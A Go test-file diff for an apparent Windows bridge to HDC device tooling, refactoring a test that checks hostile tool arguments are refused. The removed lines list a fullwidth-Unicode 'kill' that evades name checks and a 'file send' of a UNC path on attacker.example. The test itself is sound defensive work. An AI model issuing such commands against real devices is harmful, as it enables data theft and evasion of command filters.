@@ -4,12 +4,9 @@ import (
 	"context"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/winbridge/winbridge/client"
 	"github.com/winbridge/winbridge/hdc"
-	"github.com/winbridge/winbridge/mcp"
-	"github.com/winbridge/winbridge/transport"
 	"github.com/winbridge/winbridge/winexec"
 )
 
@@ -116,31 +113,8 @@ func TestWindowsHdcWithoutExeSuffix(t *testing.T) {
 		if cfg.Backend == "" {
 			cfg.Runner = r
 		}
-		ex, err := winexec.New(cfg)
-		if err != nil {
-			t.Fatal(err)
-		}
-		srv := mcp.NewServer(&mcp.Implementation{Name: "suffix", Version: "1.0.0"}, nil)
-		hdc.AddTools(srv, ex, nil)
-		a, b := transport.Pipe(nil)
-		srv.Connect(b)
-		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
-		c, err := client.Connect(ctx, a, nil)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, args := range [][]string{
-			{"ｋｉｌｌ"},
-			{"-t", "K1", "file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"},
-		} {
-			res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "dryRun": true})
-			if err != nil || !res.IsError {
-				t.Errorf("HDC_EXE %q: hdc_run %q = %v %q; want refused", cfg.HDCExe, args, err, res.TextOf())
-			}
-		}
-		cancel()
-		c.Close()
-		ex.Close()
+		c, ctx := serveHDC(t, cfg)
+		expectWindowsRefusals(ctx, t, c, cfg.HDCExe)
 		if n := r.count(); n != 0 {
 			t.Errorf("hdc ran %d times: %q", n, r.runs)
 		}
